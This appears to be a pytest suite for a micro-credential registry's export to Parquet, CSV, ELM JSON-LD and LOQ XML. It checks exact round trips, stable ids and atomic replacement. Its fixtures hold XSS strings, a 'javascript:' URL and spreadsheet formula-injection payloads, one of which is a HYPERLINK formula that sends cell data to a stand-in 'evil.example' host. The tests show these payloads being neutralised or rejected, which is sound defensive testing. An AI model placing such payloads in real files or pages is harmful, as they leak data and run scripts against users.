"""``microcred export``: exact round trips, one valid ELM dataset per institution, stable ids, atomic replace.

Fast tests run on a tiny warehouse built here from ``warehouse/schema.sql``; the ``slow`` ones export the
session's published snapshot registry (read-only: every export goes to ``tmp_path``).
"""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import duckdb
import polars as pl
import pytest
from polars.testing import assert_frame_equal

from pipelines.cli import main
from warehouse import elm
from warehouse import export as export_module
from warehouse.export import (
    TABLES,
    ExportError,
    NoWarehouseError,
    export,
    learning_opportunity_id,
    read_csv,
)

SQL = Path(export_module.__file__).parent
SCRIPT_TITLE = 'Data & AI <script>alert("x")</script> </script><!-- \u2028 "quoted", comma'


# -- a tiny warehouse ---------------------------------------------------------------------------------------
PROGRAMME_COLUMNS = (
    "registry_id, institution_id, academic_year, title, title_language, url, source_url, run_id, credits_ects, "
    "study_hours, study_hours_derived, languages, delivery_mode, eqf_level, fee_eur, fee_covers, start_date, "
    "end_date, learning_outcomes, prerequisites, fetched_at"
)
PROGRAMMES = [
    # registry_id, inst, year, title, title_lang, credits, hours, derived, languages, mode, eqf, fee, covers,
    # start, end, outcomes, prerequisites
    ("ugent:FULL", "ugent", 2024, "Volledige micro-credential", "nl", 5.0, 140, False, ["nl", "en"], "on_site",
     6, "3500.50", "inclusief cursusmateriaal", "2024-09-23", "2025-01-31",
     ["Je analyseert, met \"bronnen\".", None, "Je rapporteert."], "Een bachelordiploma."),
    ("ugent:FULL", "ugent", 2023, "Vorig jaar", "nl", 5.0, None, None, ["nl"], None, None, None, None, None,
     None, None, None),
    ("ugent:SCRIPT", "ugent", 2024, SCRIPT_TITLE, "en", None, 75, True, ["ln", "fr"], "distance", None, "0.00",
     None, None, "2025-06-30", [], None),
    ("ugent:NOTITLE", "ugent", 2024, None, "nl", 3.0, None, None, ["nl"], "online", 7, None, None, None, None,
     None, None),
    ("rug:NOLANG", "rug", 2025, "No language known", None, 7.5, 210, False, None, "blended", 7, None, None, None,
     None, None, None),
    ("rug:HYBRID", "rug", 2025, "Hybrid course", "en", 7.5, None, None, ["en"], "hybrid", 8, None, None,
     "2026-02-02", None, ["Design"], None),
]  # fmt: skip


def _list(values: list | None) -> str:
    if values is None:
        return "NULL"
    return (
        "["
        + ", ".join("NULL" if v is None else "'" + v.replace("'", "''") + "'" for v in values)
        + "]::VARCHAR[]"
    )


def build_registry(data_dir: Path, run_id: str = "20260101T020000Z-aaaaaa") -> Path:
    """A small published warehouse with every column type the export has to carry (lists, DECIMAL, DATE,
    TIMESTAMPTZ, BOOLEAN, NULL vs empty string, quotes, commas and line breaks in text)."""
    data_dir.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(data_dir / "registry.duckdb")) as con:
        con.execute((SQL / "schema.sql").read_text())
        con.execute((SQL / "views.sql").read_text())
        for inst, name, country in (
            ("ugent", "Ghent University", "BE"),
            ("uantwerpen", "University of Antwerp", "BE"),
            ("rug", "University of Groningen", "NL"),
        ):
            con.execute(
                "INSERT INTO institution VALUES (?, ?, ?, 'R', 'F', 25, 30, 3, 20, ?, ?)",
                [inst, name, country, [f"{inst}.example"], f"https://{inst}.example"],
            )
        for p in PROGRAMMES:
            (rid, inst, year, title, tlang, credits, hours, derived, langs, mode, eqf, fee, covers, start, end,
             outcomes, prereq) = p  # fmt: skip
            con.execute(
                f"INSERT INTO programme ({PROGRAMME_COLUMNS}) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, "
                f"{_list(langs)}, ?, ?, ?, ?, ?, ?, {_list(outcomes)}, ?, TIMESTAMPTZ '2026-01-01 02:03:04.123456+00')",
                [rid, inst, year, title, tlang, f"https://{inst}.example/{rid}", f"https://{inst}.example/src",
                 run_id, credits, hours, derived, mode, eqf, fee, covers, start, end, prereq],
            )  # fmt: skip
        con.execute(
            "INSERT INTO course_unit (course_key, institution_id, code, academic_year, name, credits_ects, "
            "languages, lecturers, learning_outcomes, url, fetched_at, run_id) VALUES "
            "('ugent:C1:2024', 'ugent', 'C1', 2024, 'Line\nbreak, \"quote\"', 0.1, [], ['A, B', ''], NULL, "
            "'https://ugent.example/c1', TIMESTAMPTZ '2026-01-01 02:03:04+00', ?)",
            [run_id],
        )
        con.execute(
            "INSERT INTO programme_course (registry_id, institution_id, course_code, academic_year, offered, "
            "position, course_name, credits_ects, credits_raw, semester, semester_raw, languages, source_url, "
            "run_id) VALUES ('ugent:FULL', 'ugent', 'C1', 2024, true, 1, '', 1e-7, '1', 'S1', NULL, ['nl'], "
            "'https://ugent.example/src', ?)",
            [run_id],
        )
        con.execute(
            "INSERT INTO rule VALUES ('credits_present', 'error', false, 'Credits', 'Annex I', 'cite', ['*'], "
            "'programme', 'Explained')"
        )
        con.execute(
            "INSERT INTO flag VALUES (?, 'credits_present', 'error', 'ugent', 'ugent:NOTITLE', 2024, "
            "'credits_ects', NULL, 'No credits', NULL)",
            [run_id],
        )
        for source in ("ugent", "uantwerpen", "rug"):
            con.execute(
                "INSERT INTO run (run_id, source, status, published, published_run_id) "
                "VALUES (?, ?, 'harvested', true, ?)",
                [run_id, source, run_id],
            )
    return data_dir


@pytest.fixture
def registry(tmp_path) -> Path:
    return build_registry(tmp_path / "data")


def warehouse_frame(data_dir: Path, table: str) -> pl.DataFrame:
    with duckdb.connect(str(data_dir / "registry.duckdb"), read_only=True) as con:
        con.execute("SET TimeZone = 'UTC'")
        return con.sql(f"SELECT * FROM {table} ORDER BY {TABLES[table]}").pl()


def load(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def opportunities(doc: dict) -> list[dict]:
    return [node for node in doc["@graph"] if node["type"] == "LearningOpportunity"]


def all_ids(value) -> list[str]:
    """Every node id in a document except shared vocabulary concepts."""
    found: list[str] = []
    if isinstance(value, dict):
        if "id" in value and value.get("type") not in ("Concept", "ConceptScheme"):
            found.append(value["id"])
        for item in value.values():
            found += all_ids(item)
    elif isinstance(value, list):
        for item in value:
            found += all_ids(item)
    return found


def round_trip(data_dir: Path, out: Path, table: str) -> None:
    """Parquet (polars) and CSV (documented decoding) both equal the warehouse query, exactly."""
    expected = warehouse_frame(data_dir, table)
    assert_frame_equal(pl.read_parquet(out / "parquet" / f"{table}.parquet"), expected, check_exact=True)
    columns = load(out / "manifest.json")["tables"][table]["columns"]
    assert_frame_equal(read_csv(out / "csv" / f"{table}.csv", columns), expected, check_exact=True)


# -- fast: the tiny warehouse -----------------------------------------------------------------------------
@pytest.mark.parametrize("table", list(TABLES))
def test_parquet_and_csv_round_trip_exactly(registry, tmp_path, table):
    out = tmp_path / "out"
    export(registry, out)
    round_trip(registry, out, table)


def test_csv_encoding_is_the_documented_one(registry, tmp_path):
    export(registry, tmp_path / "out")
    csv = (tmp_path / "out" / "csv" / "course_unit.csv").read_text(encoding="utf-8")
    assert '"[""A, B"",""""]"' in csv  # a list is JSON array text, quoted as CSV
    assert ",[]," in csv  # an empty list
    assert "2026-01-01T02:03:04.000000Z" in csv
    programme_course = (tmp_path / "out" / "csv" / "programme_course.csv").read_text(encoding="utf-8")
    assert ',"",' in programme_course  # an empty string, where NULL is an empty unquoted field


def test_the_mapping_of_a_full_row(registry, tmp_path):
    export(registry, tmp_path / "out")
    doc = load(tmp_path / "out" / "elm" / "ugent.jsonld")
    org = doc["@graph"][0]
    assert org["type"] == "Organisation" and org["legalName"] == {"en": "Ghent University"}
    assert org["location"]["address"]["countryCode"]["id"] == f"{elm.COUNTRY_AUTHORITY}/BEL"
    lo = next(n for n in opportunities(doc) if n["identifier"]["notation"] == "ugent:FULL")
    assert lo["id"] == "urn:microcred-registry:learning-opportunity/ugent:FULL/2024"
    assert lo["title"] == {"nl": "Volledige micro-credential"}
    assert lo["homepage"]["contentURL"] == "https://ugent.example/ugent:FULL"
    assert lo["providedBy"] == org["id"] and lo["publisher"] == org["id"]
    assert lo["temporal"] == {
        "id": f"{lo['id']}/period",
        "type": "PeriodOfTime",
        "startDate": "2024-09-23T00:00:00",
        "endDate": "2025-01-31T00:00:00",
    }
    assert lo["priceDetail"]["amount"]["rdf:value"] == {"@value": "3500.50", "@type": "xsd:decimal"}
    assert lo["priceDetail"]["amount"]["unit"]["id"] == f"{elm.CURRENCY_AUTHORITY}/EUR"
    assert lo["priceDetail"]["description"] == {"nl": "inclusief cursusmateriaal"}
    assert lo["defaultLanguage"]["id"] == f"{elm.LANGUAGE_AUTHORITY}/NLD"
    spec = lo["learningAchievementSpecification"]
    assert spec["creditPoint"]["framework"]["id"] == elm.ECTS_CONCEPT
    assert spec["creditPoint"]["point"] == "5"
    assert spec["volumeOfLearning"] == "PT140H"
    assert spec["educationLevel"]["id"] == "http://data.europa.eu/snb/eqf/6"
    assert [c["id"] for c in spec["language"]] == [
        f"{elm.LANGUAGE_AUTHORITY}/NLD",
        f"{elm.LANGUAGE_AUTHORITY}/ENG",
    ]
    assert [c["prefLabel"]["en"] for c in spec["language"]] == ["Dutch", "English"]
    assert spec["mode"]["id"] == elm.DELIVERY_MODE_CONCEPT["on_site"]
    # The null outcome is left out; the others keep their position in the id.
    assert [(o["id"].rsplit("/", 1)[1], o["title"]) for o in spec["learningOutcome"]] == [
        ("1", {"nl": 'Je analyseert, met "bronnen".'}),
        ("3", {"nl": "Je rapporteert."}),
    ]
    assert spec["entryRequirement"]["noteLiteral"] == {"nl": "Een bachelordiploma."}


def test_absent_and_derived_values_are_omitted_never_null(registry, tmp_path):
    export(registry, tmp_path / "out")
    doc = load(tmp_path / "out" / "elm" / "ugent.jsonld")
    lo = next(n for n in opportunities(doc) if n["identifier"]["notation"] == "ugent:SCRIPT")
    spec = lo["learningAchievementSpecification"]
    assert "volumeOfLearning" not in spec  # 75 hours derived from credits are not sent as published hours
    assert "creditPoint" not in spec and "educationLevel" not in spec and "learningOutcome" not in spec
    assert "mode" not in spec  # distance learning has no concept in the ELM mode vocabulary
    assert lo["temporal"] == {
        "id": f"{lo['id']}/period",
        "type": "PeriodOfTime",
        "endDate": "2025-06-30T00:00:00",
    }
    assert lo["priceDetail"]["amount"]["rdf:value"]["@value"] == "0.00"  # a stated zero fee is a fee
    assert [c["id"] for c in spec["language"]] == [
        f"{elm.LANGUAGE_AUTHORITY}/LIN",
        f"{elm.LANGUAGE_AUTHORITY}/FRA",
    ]
    text = (tmp_path / "out" / "elm" / "ugent.jsonld").read_text(encoding="utf-8")
    assert "null" not in text.replace('"nl"', "")


def test_one_dataset_per_institution_covering_the_current_year(registry, tmp_path):
    result = export(registry, tmp_path / "out")
    out = tmp_path / "out"
    assert sorted(p.name for p in (out / "elm").iterdir()) == [
        "rug.jsonld",
        "uantwerpen.jsonld",
        "ugent.jsonld",
    ]
    manifest = load(out / "manifest.json")
    current = warehouse_frame(registry, "programme_current")
    for institution in ("ugent", "uantwerpen", "rug"):
        doc = load(out / "elm" / f"{institution}.jsonld")
        rows = current.filter(pl.col("institution_id") == institution)
        skipped = manifest["elm"]["datasets"][institution]["skipped"]
        assert len(opportunities(doc)) == rows.height - len(skipped) == result.datasets[institution]
        assert manifest["files"][f"elm/{institution}.jsonld"]["rows"] == len(opportunities(doc))
        covered = {n["identifier"]["notation"] for n in opportunities(doc)} | {
            s["registry_id"] for s in skipped
        }
        assert covered == set(rows["registry_id"])
        assert [n["type"] for n in doc["@graph"]].count("Organisation") == 1
    # Only the current year: 2023 of ugent:FULL is not a learning opportunity any more.
    ugent = load(out / "elm" / "ugent.jsonld")
    assert all(n["id"].endswith("/2024") for n in opportunities(ugent))
    assert opportunities(load(out / "elm" / "uantwerpen.jsonld")) == []
    assert result.skipped == {
        "rug": [{"registry_id": "rug:NOLANG", "academic_year": 2025, "reason": "no page or instruction language for ELM defaultLanguage"}],
        "uantwerpen": [],
        "ugent": [{"registry_id": "ugent:NOTITLE", "academic_year": 2024, "reason": "no title (ELM requires one)"}],
    }  # fmt: skip


def test_a_script_title_is_data(registry, tmp_path):
    export(registry, tmp_path / "out")
    path = tmp_path / "out" / "elm" / "ugent.jsonld"
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text and "</script" not in text and "\u2028" not in text
    titles = [
        n["title"]["en"] for n in opportunities(load(path)) if n["identifier"]["notation"] == "ugent:SCRIPT"
    ]
    assert titles == [SCRIPT_TITLE]
    assert (
        SCRIPT_TITLE in pl.read_parquet(tmp_path / "out" / "parquet" / "programme.parquet")["title"].to_list()
    )


def test_ids_are_stable_across_exports_and_runs_and_unique(tmp_path):
    first = build_registry(tmp_path / "one", run_id="20260101T020000Z-aaaaaa")
    second = build_registry(tmp_path / "two", run_id="20260202T020000Z-bbbbbb")
    export(first, tmp_path / "a")
    export(first, tmp_path / "b")
    export(second, tmp_path / "c")
    for institution in ("ugent", "rug"):
        docs = [load(tmp_path / d / "elm" / f"{institution}.jsonld") for d in ("a", "b", "c")]
        ids = [all_ids(doc) for doc in docs]
        assert ids[0] == ids[1] == ids[2]
        assert len(ids[0]) == len(set(ids[0]))
        assert not any("aaaaaa" in i or "bbbbbb" in i or "2026" in i for i in ids[0])
        # The whole dataset depends only on the published rows, not on when or by which run it was written.
        texts = {(tmp_path / d / "elm" / f"{institution}.jsonld").read_bytes() for d in ("a", "b", "c")}
        assert len(texts) == 1
    assert learning_opportunity_id("urn:microcred-registry:", "ugent:FULL", 2024) in all_ids(
        load(tmp_path / "a" / "elm" / "ugent.jsonld")
    )


def test_the_base_iri_is_configurable_and_checked(registry, tmp_path):
    export(registry, tmp_path / "out", base_iri="https://registry.example.be/id/")
    lo = opportunities(load(tmp_path / "out" / "elm" / "rug.jsonld"))[0]
    assert lo["id"] == "https://registry.example.be/id/learning-opportunity/rug:HYBRID/2025"
    assert load(tmp_path / "out" / "manifest.json")["elm"]["base_iri"] == "https://registry.example.be/id/"
    with pytest.raises(ExportError, match="base IRI"):
        export(registry, tmp_path / "bad", base_iri="registry ids")
    assert not (tmp_path / "bad").exists()


def test_the_manifest_lists_runs_rows_and_checksums(registry, tmp_path):
    result = export(registry, tmp_path / "out")
    out = tmp_path / "out"
    manifest = load(out / "manifest.json")
    assert manifest["published_runs"] == {
        source: "20260101T020000Z-aaaaaa" for source in ("rug", "uantwerpen", "ugent")
    }
    on_disk = sorted(
        str(p.relative_to(out)) for p in out.rglob("*") if p.is_file() and p.name != "manifest.json"
    )
    assert sorted(manifest["files"]) == on_disk
    for relative, entry in manifest["files"].items():
        data = (out / relative).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data).hexdigest() and entry["bytes"] == len(data)
    assert manifest["files"]["parquet/programme.parquet"]["rows"] == 6
    assert manifest["files"]["csv/programme_current.csv"]["rows"] == 5
    assert manifest["tables"]["programme"]["columns"][0] == ["registry_id", "VARCHAR"]
    assert result.file("csv/flag.csv").rows == 1
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", manifest["exported_at"])


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("exchange", [True, False], ids=["renameat2", "two-renames"])
def test_a_new_export_replaces_the_old_one_whole(registry, tmp_path, monkeypatch, exchange):
    out = tmp_path / "exports"
    export(registry, out)
    (out / "stale.txt").write_text("from an older export")
    if not exchange:
        monkeypatch.setattr(export_module, "_exchange", lambda a, b: False)
    export(registry, out)
    assert not (out / "stale.txt").exists() and (out / "manifest.json").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "exports"]


def test_an_invalid_elm_export_leaves_the_previous_export_intact(registry, tmp_path, monkeypatch):
    out = tmp_path / "exports"
    export(registry, out)
    before = _tree(out)
    monkeypatch.setattr(elm, "validate_learning_opportunities", lambda doc: ["@graph[1]: title is missing"])
    with pytest.raises(ExportError, match="title is missing"):
        export(registry, out)
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "exports"]  # no temporary directory left


def test_a_crash_midway_leaves_nothing_behind(registry, tmp_path, monkeypatch):
    calls = []

    def copy_then_crash(con, table, root):
        if calls:
            raise OSError("disk full")
        calls.append(table)
        return real(con, table, root)

    real = export_module._copy_table
    monkeypatch.setattr(export_module, "_copy_table", copy_then_crash)
    with pytest.raises(OSError, match="disk full"):
        export(registry, tmp_path / "exports")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]


def test_no_warehouse_no_export(tmp_path):
    with pytest.raises(NoWarehouseError):
        export(tmp_path / "empty")
    assert not (tmp_path / "empty").exists()


def test_the_cli_prints_what_it_wrote(registry, tmp_path, capsys):
    assert main(["export", "--data-dir", str(registry), "--out", str(tmp_path / "out")]) == 0
    printed = capsys.readouterr().out
    assert "elm/ugent.jsonld" in printed and "parquet/programme.parquet" in printed
    assert re.search(r"ugent\s+2\s+1", printed)  # 2 learning opportunities, 1 row left out
    assert (tmp_path / "out" / "manifest.json").exists()


def test_the_cli_defaults_to_the_data_folder(registry, capsys, monkeypatch):
    monkeypatch.setenv("MICROCRED_DATA_DIR", str(registry))
    assert main(["export"]) == 0
    assert (registry / "exports" / "manifest.json").exists()


def test_the_cli_fails_clearly_without_a_warehouse(tmp_path, capsys):
    assert main(["export", "--data-dir", str(tmp_path / "none")]) == 1
    captured = capsys.readouterr()
    assert "no published warehouse" in captured.err and "microcred refresh" in captured.err
    assert captured.out == ""


# -- slow: the published snapshot registry ---------------------------------------------------------------
@pytest.fixture(scope="module")
def published_export(published_registry, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("export") / "exports"
    export(published_registry, out)
    return out


@pytest.mark.slow
@pytest.mark.parametrize("table", list(TABLES))
def test_the_real_export_round_trips_exactly(published_registry, published_export, table):
    round_trip(published_registry, published_export, table)
    assert warehouse_frame(published_registry, table).height > 0


@pytest.mark.slow
def test_the_real_elm_export_is_valid_and_complete(published_registry, published_export):
    manifest = load(published_export / "manifest.json")
    current = warehouse_frame(published_registry, "programme_current")
    institutions = warehouse_frame(published_registry, "institution")["institution_id"].to_list()
    assert sorted(p.stem for p in (published_export / "elm").iterdir()) == sorted(institutions)
    total = 0
    for institution in institutions:
        doc = load(published_export / "elm" / f"{institution}.jsonld")
        assert elm.validate_learning_opportunities(doc) == []
        skipped = manifest["elm"]["datasets"][institution]["skipped"]
        rows = current.filter(pl.col("institution_id") == institution)
        assert len(opportunities(doc)) == rows.height - len(skipped)
        ids = all_ids(doc)
        assert len(ids) == len(set(ids))
        total += len(opportunities(doc))
    assert total > 0


@pytest.mark.slow
def test_the_real_export_is_stable(published_registry, published_export, tmp_path):
    export(published_registry, tmp_path / "again")
    for path in (published_export / "elm").iterdir():
        assert (tmp_path / "again" / "elm" / path.name).read_bytes() == path.read_bytes()
    first = load(published_export / "manifest.json")["files"]
    second = load(tmp_path / "again" / "manifest.json")["files"]
    assert {k: v["rows"] for k, v in first.items()} == {k: v["rows"] for k, v in second.items()}


@pytest.mark.slow
def test_the_cli_on_the_real_registry(published_registry, tmp_path, capsys):
    assert main(["export", "--data-dir", str(published_registry), "--out", str(tmp_path / "out")]) == 0
    printed = capsys.readouterr().out
    for institution in ("ugent", "uantwerpen", "rug"):
        assert f"elm/{institution}.jsonld" in printed
    assert not (published_registry / "exports").exists()  # the shared registry folder stays untouched


# -- spreadsheet-safe CSV, ELM fail-closed, LOQ XML and round trips ------------------------------------------
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "fee_covers": "+1+2",
    "prerequisites": "-2+3",
    "faculty": "@SUM(A1:A9)",
    "campus": "\tGent",
    "semester_raw": "\r=1",
    "credits_raw": "'already quoted",
}


def _read_csv_cells(path: Path) -> list[list[str]]:
    import csv

    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_formula_cells_are_neutralised_in_csv_and_kept_in_parquet(registry, tmp_path):
    with duckdb.connect(str(registry / "registry.duckdb")) as con:
        assignments = ", ".join(f"{column} = ?" for column in FORMULAS)
        con.execute(
            f"UPDATE programme SET {assignments} WHERE registry_id = 'ugent:FULL' AND academic_year = 2024",
            list(FORMULAS.values()),
        )
    out = tmp_path / "out"
    export(registry, out)
    for table in ("programme", "programme_current"):
        rows = _read_csv_cells(out / "csv" / f"{table}.csv")
        header, full = rows[0], next(r for r in rows if r[0] == "ugent:FULL" and "2024" in r)
        for column, value in FORMULAS.items():
            assert full[header.index(column)] == "'" + value, column  # one quote: text, never a formula
        for row in rows:
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
        # Parquet keeps the text as is; the documented CSV decoding gives back exactly the warehouse rows.
        parquet = pl.read_parquet(out / "parquet" / f"{table}.parquet").filter(
            (pl.col("registry_id") == "ugent:FULL") & (pl.col("academic_year") == 2024)
        )
        assert parquet.select(list(FORMULAS)).row(0) == tuple(FORMULAS.values())
        round_trip(registry, out, table)
    # The planted title also stays as is in the ELM dataset (JSON text, no spreadsheet involved).
    ugent = load(out / "elm" / "ugent.jsonld")
    assert FORMULAS["title"] in [t for n in opportunities(ugent) for t in n["title"].values()]


def test_a_record_the_shapes_refuse_fails_the_export_closed(registry, tmp_path):
    out = tmp_path / "exports"
    export(registry, out)
    before = _tree(out)
    with duckdb.connect(str(registry / "registry.duckdb")) as con:
        con.execute("UPDATE programme SET url = 'javascript:alert(1)' WHERE registry_id = 'ugent:FULL'")
    with pytest.raises(ExportError) as failure:
        export(registry, out)
    message = str(failure.value)
    assert "nothing was replaced" in message
    # pySHACL's violation, with its focus node and the shape's path: the homepage URL is not http(s).
    assert re.search(
        r"elm/ugent\.jsonld: SHACL urn:microcred-registry:learning-opportunity/ugent:FULL/2024/homepage "
        r"\(path elm:contentUrl\): .*pattern",
        message,
    ), message
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "exports"]


def test_an_xml_the_schema_refuses_fails_the_export_closed(registry, tmp_path, monkeypatch):
    from warehouse import elm_xml

    out = tmp_path / "exports"
    export(registry, out)
    before = _tree(out)
    monkeypatch.setattr(elm_xml, "ISCED_F_UNKNOWN", "http://data.europa.eu/snb/isced-f/not-a-field")
    with pytest.raises(ExportError, match=r"loq/ugent\.xml: line \d+ \(urn:microcred-registry:.*ISCEDFCode"):
        export(registry, out)
    assert _tree(out) == before


def _sql_current(data_dir: Path) -> list[dict]:
    with duckdb.connect(str(data_dir / "registry.duckdb"), read_only=True) as con:
        return (
            con.sql(
                "SELECT institution_id, registry_id, academic_year, title, title_language, url, credits_ects, languages, "
                "learning_outcomes FROM programme_current ORDER BY registry_id"
            )
            .pl()
            .to_dicts()
        )


def _expected_id(row: dict) -> str:
    """The documented id form: {base}learning-opportunity/{registry id, percent-encoded but ':'}/{year}."""
    from urllib.parse import quote

    return f"urn:microcred-registry:learning-opportunity/{quote(row['registry_id'], safe=':')}/{row['academic_year']}"


def _expected(row: dict) -> tuple:
    credits = row["credits_ects"]
    languages = sorted(elm.ISO_639_1_TO_EU[code] for code in row["languages"] or [])
    return (row["title"], credits if credits and credits > 0 else None, languages)


SPARQL = """
PREFIX elm: <http://data.europa.eu/snb/model/elm/>
PREFIX dc: <http://purl.org/dc/terms/>
PREFIX adms: <http://www.w3.org/ns/adms#>
PREFIX skos: <http://www.w3.org/2004/02/skos/core#>
SELECT ?lo ?notation ?title ?point (GROUP_CONCAT(DISTINCT STR(?language); separator=" ") AS ?languages)
WHERE {
  ?lo a elm:LearningOpportunity ; dc:title ?title ; adms:identifier/skos:notation ?notation ;
      elm:learningAchievementSpecification ?spec .
  ?spec a elm:LearningAchievementSpecification .
  OPTIONAL { ?spec elm:creditPoint/elm:point ?point }
  OPTIONAL { ?spec dc:language ?language }
} GROUP BY ?lo ?notation ?title ?point
"""


def _check_skipped(skipped: list[dict], rows: dict[str, dict]) -> None:
    """Every row left out really lacks what its reason says (read from the warehouse, not the exporter)."""
    for entry in skipped:
        row = rows[entry["registry_id"]]
        reason = entry["reason"]
        if reason.startswith("no title"):
            assert not (row["title"] or "").strip()
        elif reason.startswith("no page URL"):
            assert not (row["url"] or "").strip()
        elif reason.startswith("no page or instruction language"):
            assert row["title_language"] is None and not row["languages"]
        elif reason.startswith("no teaching language"):
            assert not row["languages"]
        elif reason.startswith("no learning outcome"):
            assert not [o for o in row["learning_outcomes"] or [] if o and o.strip()]
        else:
            raise AssertionError(f"unexpected reason {reason!r}")


@pytest.mark.slow
def test_the_real_json_ld_reads_back_as_the_current_offer(published_registry, published_export):
    from warehouse import elm_rdf

    manifest = load(published_export / "manifest.json")
    current = _sql_current(published_registry)
    typed = 0
    for institution, summary in manifest["elm"]["datasets"].items():
        rows = {r["registry_id"]: r for r in current if r["institution_id"] == institution}
        _check_skipped(summary["skipped"], rows)
        doc = load(published_export / "elm" / f"{institution}.jsonld")
        assert elm_rdf.shacl_violations(doc) == []  # pySHACL, LOQ + MDR shapes: 0 violations
        graph = elm_rdf.to_graph(doc)
        found = {}
        for lo, notation, title, point, languages in graph.query(SPARQL):
            found[str(notation)] = (str(lo), (str(title), title.language), point, languages)
        kept = {k: r for k, r in rows.items() if k not in {s["registry_id"] for s in summary["skipped"]}}
        assert set(found) == set(kept) and len(kept) == len(elm_rdf.learning_opportunities(graph))
        for registry_id, row in kept.items():
            lo, (title, tag), point, languages = found[registry_id]
            assert lo == _expected_id(row)
            assert tag == (row["title_language"] or "und")
            codes = sorted(str(languages).split()) if languages else []
            got = (title, float(point) if point is not None else None, [c.rsplit("/", 1)[1] for c in codes])
            assert got == _expected(row), registry_id
        typed += len(kept)
    assert typed >= len(current) - 3 and typed > 100


@pytest.mark.slow
def test_the_real_loq_xml_is_valid_and_reads_back_as_the_current_offer(published_registry, published_export):
    import xmlschema
    from lxml import etree

    from warehouse import elm_xml

    manifest = load(published_export / "manifest.json")
    current = _sql_current(published_registry)
    validator = xmlschema.XMLSchema(str(Path(str(elm_xml.REFERENCE)) / elm_xml.SCHEMA))
    ns = {"loq": elm_xml.LOQ_NS, "skos": elm_xml.SKOS_NS}
    written = 0
    for institution, summary in manifest["elm"]["datasets"].items():
        path = published_export / summary["xml_file"]
        assert list(validator.iter_errors(str(path))) == []  # a second, independent XSD validator
        rows = {r["registry_id"]: r for r in current if r["institution_id"] == institution}
        _check_skipped(summary["xml_skipped"], rows)
        tree = etree.parse(str(path))
        found = {}
        for lo in tree.xpath(
            "/loq:Courses/loq:learningOpportunityReferences/loq:learningOpportunity", namespaces=ns
        ):
            spec_id = lo.xpath("loq:learningAchievementSpecification/@idref", namespaces=ns)[0]
            (spec,) = tree.xpath("//loq:learningAchievementSpecification[@id=$id]", id=spec_id, namespaces=ns)
            (title,) = lo.xpath("loq:title", namespaces=ns)
            points = spec.xpath("loq:creditPoint/loq:point/text()", namespaces=ns)
            languages = sorted(u.rsplit("/", 1)[1] for u in spec.xpath("loq:language/@uri", namespaces=ns))
            notation = lo.xpath("loq:identifier/skos:notation/text()", namespaces=ns)[0]
            found[notation] = (
                lo.get("id"),
                title.get("language"),
                (title.text, float(points[0]) if points else None, languages),
            )
        kept = {k: r for k, r in rows.items() if k not in {s["registry_id"] for s in summary["xml_skipped"]}}
        assert (
            set(found)
            == set(kept)
            == {k for k in rows if k not in {s["registry_id"] for s in summary["xml_skipped"]}}
        )
        for registry_id, row in kept.items():
            lo_id, tag, values = found[registry_id]
            assert lo_id == _expected_id(row) and tag == (row["title_language"] or "und")
            assert values == _expected(row), registry_id
        written += len(kept)
    assert written > 100


@pytest.mark.slow
def test_no_csv_cell_of_the_real_export_starts_a_formula(published_export):
    for path in (published_export / "csv").iterdir():
        for row in _read_csv_cells(path):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (path.name, row)
